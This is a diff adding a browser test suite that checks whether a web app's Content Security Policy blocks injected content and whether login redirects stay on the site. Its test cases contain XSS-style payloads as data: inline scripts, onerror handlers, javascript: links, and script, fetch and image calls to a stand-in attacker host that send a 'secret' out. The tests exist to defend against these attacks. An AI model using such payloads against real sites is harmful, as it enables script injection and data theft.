@@ -1,0 +1,100 @@
+import type { Page } from 'playwright-core';
+import { afterAll, describe, expect, it } from 'vitest';
+import { pathOf, textField, visitWebApp } from '../support/browser/visit-web-app.ts';
+import { signUp } from '../support/factories.ts';
+import { routeStripeJs } from '../support/stripe/route-stripe-js.ts';
+import { startStripeServer } from '../support/stripe/stripe-server.ts';
+
+const evil = 'https://evil.example';
+const stripeScript = 'https://js.stripe.com/v3/';
+const stripeFrame = 'https://js.stripe.com/payment-element.html';
+const stripe = await startStripeServer();
+
+/**
+ * Puts into the page what somebody would who had found a way to write into it.
+ * @returns what the browser refused, as `directive what`
+ */
+async function refusedBy(page: Page, act: string): Promise<string[]> {
+  await page.evaluate(`(() => {
+    window.refused = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      window.refused.push(effectiveDirective + ' ' + blockedURI));
+    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
+    ${act}
+  })()`);
+  await expect.poll(() => page.evaluate('window.refused.length')).toBeGreaterThan(0);
+  expect(await page.evaluate('window.owned')).toBeUndefined();
+  const refused: unknown = await page.evaluate('window.refused');
+  return Array.isArray(refused) ? refused.map(String) : [];
+}
+
+describe('what is written into a page', () => {
+  const visits = visitWebApp();
+
+  it.each([
+    ['a script', 'add("script", { textContent: "window.owned = true" })', 'script-src-elem inline'],
+    [
+      'an event',
+      'add("p", { innerHTML: "<img src=x: onerror=\'owned = true\'>" })',
+      'script-src-attr inline',
+    ],
+    [
+      'a link that is a script',
+      'const link = document.createElement("a"); link.href = "javascript:owned=true"; document.body.append(link); link.click()',
+      'script-src-elem inline',
+    ],
+    [
+      'a text that becomes a script',
+      // Not at once: what a debugger runs may do more than the page.
+      'setTimeout(() => { try { window.owned = eval("1") } catch {} })',
+      'script-src eval',
+    ],
+    ['a script of another site', `add("script", { src: "${evil}/x.js" })`, `script-src-elem ${evil}/x.js`],
+    ['a frame', `add("iframe", { src: "${evil}/" })`, `frame-src ${evil}`],
+    ['an object', `add("object", { data: "${evil}/x.swf" })`, `object-src ${evil}`],
+    ['a style', 'add("style", { textContent: "body { display: none }" })', 'style-src-elem inline'],
+    ['a picture that tells', `add("img", { src: "${evil}/?secret" })`, `img-src ${evil}/?secret`],
+    ['a call that tells', `fetch("${evil}/?secret").catch(() => {})`, `connect-src ${evil}/?secret`],
+    ['another base of all addresses', `add("base", { href: "${evil}/" })`, `base-uri ${evil}/`],
+    [
+      'a form that leads away',
+      `add("form", { action: "${evil}/", method: "post" }); document.forms[0].submit()`,
+      `form-action ${evil}/`,
+    ],
+    ['the payment form, where nothing is paid', `add("script", { src: "${stripeScript}" })`, stripeScript],
+  ])('%s does nothing', async (_what, act, refusal) => {
+    visits.expectFault(/Content Security Policy|violates the following/);
+    const page = await visits.open('/about');
+    expect((await refusedBy(page, act)).join('\n')).toContain(refusal);
+  });
+
+  it('and an address to go on to after signing in leads nowhere else', async () => {
+    const { user, password } = await signUp(visits.testApp);
+    const page = await visits.open('/login?next=//evil.example&redirect=https://evil.example');
+    await textField(page, 'Email').fill(user.email);
+    await textField(page, 'Password').fill(password);
+    await page.keyboard.press('Enter');
+    await page.waitForURL('**/dashboard');
+    expect(page.url().startsWith(visits.url)).toBe(true);
+    expect(pathOf(page)).toBe('/dashboard');
+  });
+});
+
+describe('where payments are made', () => {
+  afterAll(() => stripe.close());
+  const visits = visitWebApp({ app: { env: stripe.env } });
+
+  it('their script and their frame work, and nothing of anybody else', async () => {
+    visits.expectFault(/Content Security Policy|violates the following/);
+    const page = await visits.open('/about');
+    await routeStripeJs(page.context(), stripe);
+    const loaded = page.waitForResponse(stripeFrame);
+    const refused = await refusedBy(
+      page,
+      `add("script", { src: "${stripeScript}" }); add("iframe", { src: "${stripeFrame}" }); add("script", { src: "${evil}/x.js" })`,
+    );
+    expect((await loaded).status()).toBe(200);
+    await page.waitForFunction('typeof Stripe === "function"');
+    expect(refused).toEqual([`script-src-elem ${evil}/x.js`]);
+  });
+});
